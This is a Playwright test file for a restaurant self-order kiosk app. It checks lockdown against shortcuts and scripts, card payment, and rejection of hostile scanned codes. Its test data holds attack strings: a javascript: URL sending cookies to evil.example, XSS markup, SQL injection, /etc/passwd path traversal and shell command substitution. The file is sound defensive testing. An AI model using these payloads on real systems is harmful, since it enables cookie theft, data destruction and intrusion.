import { spawn } from 'node:child_process';
import { mkdir, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { executable, expect, inherited, sandboxSwitches, test } from './kiosk';
import { NO_ESCAPE, abuseTouch, escapeByScript, pressShortcuts, standing } from './steps/attacks';
import { begin, beginAsGuest } from './steps/check-in';
import { expectBooks } from './steps/books';
import { COLESLAW, add, place, review } from './steps/order';
import { payByCard } from './steps/pay';
import { readByCamera } from './steps/scan';
import { seeNotice, seeScreen, touch } from './steps/screen';
import { heard } from './steps/thanx';

test('no key, no gesture and no script leads anywhere but to lunch', async ({ startKiosk }) => {
  const kiosk = await startKiosk({ config: { hours: {} } });
  const { app, page, door, complaints } = kiosk;
  // The store is closed today: the waiting screen is dark, and still takes a touch.
  await expect(page.locator('[data-after-hours]')).toBeVisible();
  await begin(page);
  await page.getByRole('tab', { name: 'E-mail' }).click();
  await app.evaluate(({ clipboard }) => clipboard.writeText('pasted@example.com'));
  await page.getByRole('textbox', { name: 'Your e-mail address' }).focus();
  expect(await pressShortcuts(kiosk)).toEqual(['Escape']);
  await expect(page.getByRole('textbox', { name: 'Your e-mail address' })).toHaveValue('');
  await seeScreen(page, 'check_in');

  await touch(page, 'Order without checking in');
  await seeScreen(page, 'menu');
  await add(page, COLESLAW);
  const before = await standing(kiosk);
  expect(before).toMatchObject({ windows: 1, url: 'app://kiosk/', screen: 'menu', selected: '', isSamePage: true });
  await abuseTouch(await page.context().newCDPSession(page), page, 540, 28);
  expect(await standing(kiosk)).toEqual(before);
  expect(complaints).toEqual([]);

  await review(page);
  await place(page);
  const number = await payByCard(page);
  await expectBooks(door, [{ number, ledger: 'billed', handed: ['paid'], captures: 1 }]);

  // Last, because Playwright waits for every place that a page says it is going to.
  const atTheEnd = await standing(kiosk);
  expect(await escapeByScript(page)).toEqual(NO_ESCAPE);
  await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]!.close());
  expect(await standing(kiosk)).toEqual(atTheEnd);
  expect(complaints.splice(0).join('\n')).toContain('Content Security Policy');

  const memory = await app.evaluate(({ BrowserWindow }) => {
    const { session } = BrowserWindow.getAllWindows()[0]!.webContents;
    return [session.isPersistent(), session.storagePath];
  });
  expect(memory, 'nothing of the page is put on disk').toEqual([false, null]);
});

const LONG_TEXT = 'Lorem ipsum dolor sit amet. '.repeat(150).slice(0, 4096);

const HOSTILE_CODES: readonly [string, string, RegExp][] = [
  ['an address', 'https://evil.example/pay?to=me', /^That is a web link/],
  ['a script', 'javascript:fetch("https://evil.example/"+document.cookie)', /^That is a web link/],
  ['markup', '<img src=x onerror=alert(1)><script>alert(1)</script>', /^That is not a Thanx code/],
  ['4 kB of text', LONG_TEXT, /^That is not a Thanx code/],
  ['control characters', 'maya7k2p\u0000|fiveoff4t8k\u001b[2J\u0007\u001d\r\n', /^That is not a Thanx code/],
  ['a text that is written backwards', '\u202Emaya7k2p|\u2066fiveoff4t8k', /^That is not a Thanx code/],
  ['SQL', "maya7k2p'; DROP TABLE orders; --", /^That is not a Thanx code/],
  [
    'a thousand rewards',
    `maya7k2p|${Array.from({ length: 1000 }, (_, index) => `reward${index}`).join('|')}`,
    /^That is/,
  ],
  ['a thousand rewards in one', `maya7k2p|${'fiveoff4t8k'.repeat(400)}`, /^That is/],
  ['a path', '../../../../etc/passwd', /^That is not a Thanx code/],
  ['a shell', '$(reboot);`id`;{{7*7}}%s%n', /^That is not a Thanx code/],
  ['an object', '{"__proto__":{"isStaff":true},"user_id":"maya7k2p"}', /^That is not a Thanx code/],
];

test('a hostile code before the camera gets a sentence, and nothing else happens', async ({ startKiosk }) => {
  const camera = [
    { text: 'https://evil.example/pay?to=me', seconds: 1 },
    { text: `maya7k2p|${'fiveoff4t8k|'.repeat(20)}'; DROP TABLE orders; --`, seconds: 1 },
  ];
  const { app, page, door } = await startKiosk({ camera });
  await begin(page);
  // As pictures, what fits into one; then, all that its decoder could say of any picture.
  await seeNotice(page, /^That is a web link/);
  await seeNotice(page, /^That is not a Thanx code/);
  await touch(page, 'Order without checking in');
  await seeScreen(page, 'menu');
  for (const [what, text, sentence] of HOSTILE_CODES) {
    await readByCamera(page, text);
    await seeNotice(page, sentence);
    expect([what, await page.getByRole('button', { name: 'Review order' }).isDisabled()]).toEqual([what, true]);
  }
  await seeScreen(page, 'menu');
  // Longer than anything a code can hold: refused at the door.
  expect(await readByCamera(page, 'x'.repeat(1e6))).toEqual({ ok: false, error: { kind: 'bad_input' } });
  expect(await heard(door)).toEqual([]);
  expect(app.windows()).toHaveLength(1);
});

test('a second start brings the first one to the front, whatever it was started with', async ({
  startKiosk,
}, testInfo) => {
  const dataFolder = testInfo.outputPath('data');
  // What a kiosk left behind that had no time to clean up, before its box got another name.
  await mkdir(join(dataFolder, 'chromium'), { recursive: true });
  if (process.platform !== 'win32') await symlink('former-name-4711', join(dataFolder, 'chromium', 'SingletonLock'));
  const { app, page } = await startKiosk({ dataFolder });
  await beginAsGuest(page);
  const second = await startSecond(dataFolder, ['thanx-kiosk://pay?order=1', 'app://kiosk/evil', '/etc/passwd']);
  expect(second).toEqual({ code: 0, said: expect.stringContaining('This kiosk is running already.') as unknown });
  await expect.poll(() => app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
  await seeScreen(page, 'menu');
  expect(page.url()).toBe('app://kiosk/');
});

function startSecond(dataFolder: string, args: readonly string[]): Promise<{ code: number | null; said: string }> {
  return new Promise((resolve, reject) => {
    const env = { ...inherited(), KIOSK_DATA_DIR: dataFolder, KIOSK_WINDOW: '1080x1920' };
    const kiosk = spawn(executable(), [...sandboxSwitches(), ...args], { env, stdio: ['ignore', 'ignore', 'pipe'] });
    let said = '';
    kiosk.stderr.setEncoding('utf8').on('data', (text: string) => (said += text));
    kiosk.on('error', reject);
    kiosk.on('close', (code) => resolve({ code, said }));
  });
}
